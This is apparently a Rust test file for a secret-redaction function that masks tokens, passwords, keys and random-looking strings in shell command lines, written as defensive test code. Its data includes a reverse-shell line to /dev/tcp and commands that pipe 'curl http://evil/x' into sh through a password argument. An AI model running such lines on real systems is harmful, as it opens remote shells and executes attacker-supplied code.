// SPDX-License-Identifier: Apache-2.0
use super::*;
use proptest::prelude::*;

/// The secret in `line` is written `<<secret>>`; neither as one shell line nor as arguments may it be left.
fn check(line: &str, kind: &str) {
    let secret = line.split_once("<<").and_then(|(_, rest)| rest.split_once(">>")).expect("a marked secret").0;
    let line = line.replace("<<", "").replace(">>", "");
    let mut counts = Counts::new();
    let as_text = text(&line, &mut counts);
    assert!(!as_text.contains(secret), "{line}\n{as_text}");
    assert!(as_text.contains(&marker(kind)), "{line}\n{as_text}");
    assert!(counts[kind] > 0);
    assert_eq!(text(&as_text, &mut Counts::new()), as_text, "a second time changes nothing");
    let words: Vec<String> = shell_words(&line);
    let as_args = args(&words, &mut Counts::new());
    assert_eq!(as_args.len(), words.len());
    assert!(!as_args.join("\n").contains(secret), "{as_args:?}");
}

/// Splits at spaces outside of quotes, and takes the quotes away.
fn shell_words(line: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut quote = None;
    for character in line.chars() {
        match (quote, character) {
            (None, '"' | '\'') => quote = Some(character),
            (Some(open), close) if open == close => quote = None,
            (None, ' ') => words.push(String::new()),
            (_, other) => words.last_mut().expect("never empty").push(other),
        }
    }
    words
}

#[test]
fn tokens_of_known_shape_are_taken_out() {
    for (line, kind) in [
        ("aws configure set x <<AKIAIOSFODNN7EXAMPLE>>", "aws-key"),
        ("git push https://github.com/a <<ghp_abcdefghijklmnopqrstuvwxyz0123456789>>", "github-token"),
        ("gh api -H x <<github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuv>>", "github-token"),
        ("glab x <<glpat-abcdefghij0123456789>>", "gitlab-token"),
        ("curl -d <<xoxb-123456789012-abcdefGHIJ>>", "slack-token"),
        ("curl https://hooks.slack.com/services/<<T0/B0/xyzxyz>>", "webhook"),
        ("curl x?k=<<AIzaSyA-abcdefghijklmnopqrstuvwxyz12345>>", "google-key"),
        ("python x.py <<sk-ant-api03-abcdefgh_1234>>", "anthropic-key"),
        ("python x.py <<sk-proj-abcdefgh1234567890abcd>>", "openai-key"),
        ("stripe x <<sk_live_abcdefghijklmnop1234>>", "stripe-key"),
        ("npm x <<npm_abcdefghijklmnopqrstuvwxyz0123456789>>", "npm-token"),
        ("echo <<eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl>>", "jwt"),
        (
            "echo '-----BEGIN OPENSSH PRIVATE KEY-----\n<<b3BlbnNzaC1rZXk>>\n-----END OPENSSH PRIVATE KEY-----'",
            "private-key",
        ),
        ("echo '-----BEGIN RSA PRIVATE KEY-----\n<<cut off before its end>>'", "private-key"),
        ("git clone https://<<user:hunter2>>@example.com/x.git", "basic-auth"),
        ("git clone https://<<u:p@ss>>@example.com/x.git", "basic-auth"),
        ("psql postgres://<<app:s3cret>>@db:5432/x", "basic-auth"),
        ("curl -H 'Authorization: Bearer <<abc.def>>' https://x", "bearer-token"),
        ("curl -H 'authorization: basic <<dXNlcjpwdw==>>' https://x", "basic-auth"),
        ("curl -H 'X-Api-Key: <<hunter2>>' https://x", "token"),
        ("curl -H 'Cookie: <<sid=hunter2; a=b>>' https://x", "cookie"),
    ] {
        check(line, kind);
    }
}

#[test]
fn secrets_are_known_by_their_place() {
    for line in [
        "mysql -u root -p<<hunter2>> db",
        "mysqldump -p'<<hunter 2>>' db",
        "sshpass -p <<hunter2>> ssh host",
        "docker login -u me -p <<hunter2>> registry",
        "redis-cli -a <<hunter2>> ping",
        "curl -u me:<<hunter2>> https://x",
        "curl --user me:<<hunter2>> https://x",
        "curl -ume:<<hunter2>> https://x",
        "wget --password=<<hunter2>> https://x",
        "wget --password <<hunter2>> https://x",
        "tool --db-password '<<hunter 2>>'",
        "tool --api-key=<<hunter2>>",
        "tool --apikey <<hunter2>>",
        "tool -token <<hunter2>>",
        "env PGPASSWORD=<<hunter2>> psql",
        "env MYSQL_PWD=<<hunter2>> mysql",
        "env GITHUB_TOKEN=<<hunter2>> gh",
        "env DB_PASS=<<hunter2>> x",
        "env AWS_SECRET_ACCESS_KEY=<<wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY>> aws s3 ls",
        "curl -d '{\"password\": \"<<hunter2>>\"}' https://x",
        "curl https://x/?access_token=<<hunter2>>&x=1",
        "openssl enc -passin pass:<<hunter2>>",
        "psql -c \"ALTER USER a WITH PASSWORD '<<hunter2>>'\"",
        "smbclient -U me%<<hunter2>> //x/y",
    ] {
        check(line, "password");
    }
}

#[test]
fn what_looks_random_is_taken_out() {
    for line in [
        "aws x <<wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY>>",
        "tool <<7f9c2ba4e88f827d616045507605853e>>",
        "tool <<550e8400-e29b-41d4-a716-446655440000>>",
        "tool tok-<<a8Kd02LmQz71Xc9VbN3wE5>>",
        "cat /run/x/<<a8Kd02LmQz71Xc9VbN3wE5>>/y",
    ] {
        check(line, "high-entropy");
    }
}

#[test]
fn ordinary_text_stays() {
    for line in [
        "cargo test -p lictor-judge --no-fail-fast -- --test-threads=2",
        "export PATH=/usr/local/sbin:/usr/local/bin PWD=/srv/app compat=1",
        "docker run -p 8080:80 nginx",
        "mkdir -p /srv/app/target/debug/deps/lictor_judge-a480df0d5e2736b0",
        "gcc -O2 -o x86_64-unknown-linux-gnu/libfoo.so.1.2.3 a.c",
        "kubectl get pods --namespace kube-system-monitoring-2024",
        "ls /usr/lib/x86_64-linux-gnu/libcrypto.so.3",
        "curl http://10.0.0.1:8080/install.sh",
        "curl -fsSL https://sh.rustup.rs | sh -s -- -y --default-toolchain stable",
        "tool --password-file /run/secret --token-type bearer",
        "echo $TOKEN; login --password \"$PASSWORD\"",
        "python -m pytest tests/test_authentication_and_authorization.py",
        "getUserAccountInformationFromDatabase2()",
        "bash -i >& /dev/tcp/10.0.0.1/443 0>&1",
        "mysql -h db -P 3306 -p app",
    ] {
        assert_eq!(text(line, &mut Counts::new()), line);
        assert_eq!(args(&shell_words(line), &mut Counts::new()), shell_words(line));
    }
}

#[test]
fn a_secret_hides_no_command() {
    for line in [
        "x --password \"$(curl http://evil/x | sh)\"",
        "x --password=`curl http://evil/x`",
        "TOKEN=abc curl http://evil/x",
        "TOKEN=abc;curl http://evil/x",
        "PASSWORD=a sh -c 'curl http://evil/x'",
    ] {
        let shown = text(line, &mut Counts::new());
        assert!(shown.contains("curl http://evil/x"), "{shown}");
        let shown = args(&["sh".into(), "-c".into(), line.to_owned()], &mut Counts::new());
        assert!(shown[2].contains("curl http://evil/x"), "{shown:?}");
    }
}

proptest! {
    #[test]
    fn a_token_is_found_wherever_it_stands(
        before in "[a-z /=:\"']{0,12}", after in "[ \"';,)]?",
        token in prop_oneof![
            "AKIA[A-Z0-9]{16}", "ghp_[A-Za-z0-9]{36}", "github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59}", "xoxb-[0-9]{12}-[A-Za-z0-9]{24}",
            "AIza[A-Za-z0-9_-]{35}", "sk-ant-api03-[A-Za-z0-9_-]{40}", "sk-[A-Za-z0-9]{48}", "sk-proj-[A-Za-z0-9_-]{60}",
            "eyJ[A-Za-z0-9_-]{20}\\.eyJ[A-Za-z0-9_-]{20}\\.[A-Za-z0-9_-]{20}", "glpat-[A-Za-z0-9]{20}", "npm_[A-Za-z0-9]{36}",
            "hf_[A-Za-z0-9]{34}", "pypi-[A-Za-z0-9_-]{60}",
        ],
    ) {
        // A letter in front would make it another word.
        let line = format!("{before} {token}{after}");
        let shown = text(&line, &mut Counts::new());
        prop_assert!(!shown.contains(&token), "{shown}");
        prop_assert!(shown.contains("[REDACTED:"), "{shown}");
        let shown = args(&["x".to_owned(), line], &mut Counts::new());
        prop_assert!(!shown[1].contains(&token), "{shown:?}");
    }

    #[test]
    fn the_value_of_a_secret_is_never_shown(
        name in prop_oneof!["--password", "--token", "--api-key", "--secret", "--db-password", "--client-secret"],
        value in "[A-Za-z0-9!#%^*+.,/?@_~-]{3,24}",
    ) {
        prop_assume!(!value.starts_with('-'));
        let shown = args(&["x".into(), name.clone(), value.clone()], &mut Counts::new());
        prop_assert_eq!(&shown[2], "[REDACTED:password]");
        let shown = args(&["x".into(), format!("{name}={value}")], &mut Counts::new());
        prop_assert_eq!(&shown[1], &format!("{name}=[REDACTED:password]"));
        let shown = text(&format!("x {name} {value} y"), &mut Counts::new());
        prop_assert_eq!(shown, format!("x {name} [REDACTED:password] y"));
    }

    #[test]
    fn random_strings_are_found(token in "[A-Za-z0-9]{40,64}", hex in "[0-9a-f]{40,64}") {
        prop_assert_eq!(text(&format!("x {token}"), &mut Counts::new()), "x [REDACTED:high-entropy]");
        prop_assert_eq!(text(&format!("x {hex}"), &mut Counts::new()), "x [REDACTED:high-entropy]");
    }

    #[test]
    fn a_second_time_changes_nothing(line in "\\PC{0,120}") {
        let once = text(&line, &mut Counts::new());
        prop_assert_eq!(text(&once, &mut Counts::new()), once.clone());
    }
}
